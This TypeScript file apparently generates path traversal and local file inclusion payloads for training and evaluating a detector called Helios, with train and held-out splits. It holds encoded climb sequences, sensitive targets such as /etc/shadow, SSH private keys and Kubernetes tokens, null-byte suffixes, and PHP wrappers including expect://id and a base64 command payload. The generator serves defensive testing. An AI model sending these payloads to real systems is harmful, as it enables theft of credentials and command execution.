/**
 * Path traversal and local file inclusion payloads from a grammar written for Helios: climbs
 * (../ in every spelling: backslashes, percent-encodings, overlong UTF-8, filter-bypass forms), a
 * sensitive target file, an optional prefix the application expected and suffix (null byte,
 * extension). Held-out branches are climb spellings and targets kept for evaluation.
 */
import type { Branches, Chooser } from "./grammar";

const CLIMBS: Branches<string> = {
  train: [
    "../",
    "..\\",
    "%2e%2e%2f",
    "%2e%2e/",
    "..%2f",
    "%2e%2e%5c",
    "..%5c",
    "%252e%252e%252f",
    "..%252f",
    "....//",
    "..././",
    "..;/",
    "%2E%2E%2F",
    "..%c0%af",
    ".%2e/",
    "%2e./",
    "..%255c",
    "..\\/",
    "....\\\\",
    "%c0%2e%c0%2e/",
    "%c0%ae%c0%ae/",
    "%e0%80%ae%e0%80%ae/",
    "%25c0%25ae%25c0%25ae/",
    "..%c0%2f",
    "%2e%2e%c0%af",
    "..//",
    ".../",
    "..\\\\\\\\",
    "%252e%252e/",
    ".%252e/",
    "..%5c..%5c",
    "%2e%2e\\\\",
    "..0x2f",
    "..%25%35%63",
  ],
  held: ["..%c1%9c", "%uff0e%uff0e/", "..%u2215", "%%32%65%%32%65/", "0x2e0x2e/"],
};
const UNIX_TARGETS: Branches<string> = {
  train: [
    "etc/passwd",
    "etc/shadow",
    "etc/hosts",
    "etc/group",
    "proc/self/environ",
    "proc/self/cmdline",
    "var/log/apache2/access.log",
    "var/log/nginx/error.log",
    "root/.ssh/id_rsa",
    "home/user/.bash_history",
    "etc/issue",
    "usr/local/apache/conf/httpd.conf",
    "var/www/html/config.php",
    "etc/mysql/my.cnf",
    ".env",
    ".git/config",
    ".htaccess",
    "WEB-INF/web.xml",
    "etc/nginx/nginx.conf",
  ],
  held: [
    "etc/sudoers",
    "proc/version",
    "var/run/secrets/kubernetes.io/serviceaccount/token",
    "opt/tomcat/conf/tomcat-users.xml",
  ],
};
const WINDOWS_TARGETS: Branches<string> = {
  train: [
    "windows/win.ini",
    "boot.ini",
    "windows/system32/drivers/etc/hosts",
    "winnt/win.ini",
    "windows/system.ini",
    "inetpub/wwwroot/web.config",
    "windows/repair/sam",
  ],
  held: ["windows/debug/netsetup.log", "windows/panther/unattend.xml"],
};
const PREFIXES = [
  "",
  "",
  "",
  "/",
  "images/",
  "file=",
  "static/",
  "/var/www/",
  "download?file=",
  "uploads/",
  "c:/",
  "./",
  "a/",
  "lang=",
];
const SUFFIXES: Branches<string> = {
  train: ["", "", "", "%00", "%00.jpg", "\u0000", ".png", "%00.html", "?", "#"],
  held: ["%2500", ";.txt"],
};

/** The families of the grammar. */
const FAMILIES: Readonly<Record<string, (c: Chooser) => string>> = {
  climb: (c) => {
    const climb = c.branch(CLIMBS);
    const target = c.chance(0.7) ? c.branch(UNIX_TARGETS) : c.branch(WINDOWS_TARGETS);
    const slash =
      climb.includes("\\") || climb.includes("5c") ? target.replaceAll("/", c.pick(["\\", "/"])) : target;
    return `${c.pick(PREFIXES)}${climb.repeat(c.int(1, 12))}${slash}${c.branch(SUFFIXES)}`;
  },
  mixedClimb: (c) => {
    const steps = Array.from({ length: c.int(2, 10) }, () => c.branch(CLIMBS)).join("");
    return `${c.pick(PREFIXES)}${steps}${c.branch(UNIX_TARGETS)}${c.branch(SUFFIXES)}`;
  },
  absolute: (c) =>
    c.pick([
      `/${c.branch(UNIX_TARGETS)}`,
      `file:///${c.branch(UNIX_TARGETS)}`,
      `file:/${c.branch(UNIX_TARGETS)}`,
      `c:\\${c.branch(WINDOWS_TARGETS).replaceAll("/", "\\")}`,
      `C:/${c.branch(WINDOWS_TARGETS)}`,
      `\\\\localhost\\c$\\${c.branch(WINDOWS_TARGETS).replaceAll("/", "\\")}`,
      `%2f${c.branch(UNIX_TARGETS).replaceAll("/", "%2f")}`,
    ]),
  wrapper: (c) =>
    c.pick([
      `php://filter/convert.base64-encode/resource=${c.pick(["index.php", "config.php", "../config.php", "/etc/passwd"])}`,
      `php://filter/read=string.rot13/resource=${c.pick(["index.php", "db.php"])}`,
      "php://input",
      `expect://${c.pick(["id", "ls", "whoami"])}`,
      `zip://uploads/${c.pick(["a", "x"])}.zip#shell.php`,
      `phar://uploads/${c.pick(["a", "x"])}.jpg/shell.php`,
      `data://text/plain;base64,${c.pick(["PD9waHAgc3lzdGVtKCdpZCcpOz8+", "SGVsbG8="])}`,
      `jar:file:///${c.branch(UNIX_TARGETS)}!/`,
    ]),
};

/** The path traversal families, by name. */
export const TRAVERSAL_FAMILIES = Object.keys(FAMILIES);

/** One path traversal payload of the given family. */
export function traversalPayload(c: Chooser, family: string): string {
  return FAMILIES[family]!(c);
}
